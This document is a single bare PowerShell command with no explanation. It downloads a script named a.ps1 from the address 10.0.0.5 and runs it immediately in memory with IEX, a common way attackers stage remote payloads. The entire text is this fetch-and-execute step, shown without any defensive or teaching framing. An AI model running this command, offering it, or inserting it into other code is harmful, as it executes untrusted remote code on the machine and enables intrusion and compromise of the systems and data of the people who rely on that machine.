IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')
